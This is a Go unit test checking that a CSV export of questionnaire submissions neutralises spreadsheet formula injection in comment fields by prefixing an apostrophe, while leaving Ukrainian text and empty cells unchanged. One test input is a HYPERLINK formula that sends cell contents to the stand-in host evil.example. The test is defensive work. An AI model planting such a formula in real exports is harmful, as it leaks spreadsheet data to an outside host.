package dialogs

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"
)

// A comment that a spreadsheet would run as a formula is exported as text:
// a leading apostrophe, the rest untouched; other cells are as they were.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"+380 phone", "'+380 phone"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\tindented", "'\tindented"},
		{"\rreturn", "'\rreturn"},
		{"Черга 3 години = жах", "Черга 3 години = жах"},
		{"", ""},
	}
	for _, tc := range tests {
		var buf bytes.Buffer
		sub := Submission{Ref: "R-1", Kind: "rating", Questionnaire: "rating", Version: 1, Lang: "uk",
			Started: time.Unix(0, 0), Submitted: time.Unix(0, 0), Answers: Answers{"comment": {Text: tc.in}}}
		if err := WriteCSV(&buf, nil, []Submission{sub}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if got := rows[1][len(rows[1])-1]; got != tc.want {
			t.Errorf("comment %q exported as %q, want %q", tc.in, got, tc.want)
		}
	}
}
